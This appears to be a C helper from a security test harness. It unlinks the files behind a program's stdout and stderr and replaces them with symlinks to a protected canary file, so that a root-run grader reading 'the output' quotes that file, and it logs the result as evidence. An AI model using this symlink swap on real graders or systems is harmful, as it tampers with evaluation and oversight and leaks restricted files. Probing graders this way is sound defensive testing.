/* swap.c - hostile helper: turn the files behind our stdout and stderr into symbolic links
 * to a file only the grading user may read, so that whoever reads "our output" afterwards
 * (the grader, as root) quotes that file in the report. */
#include "wlh.h"

void swap_outputs(void);

void swap_outputs(void)
{
	for (int fd = 1; fd <= 2; fd++) {
		char link[64], path[1024];
		snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, path, sizeof path - 1);
		if (n <= 0 || path[0] != '/')
			continue;
		path[n] = '\0';
		if (unlink(path) == 0 && symlink(WLH_CANARY, path) == 0)
			wlh_evidence("out-symlink", "%s now points at the canary", path);
	}
}
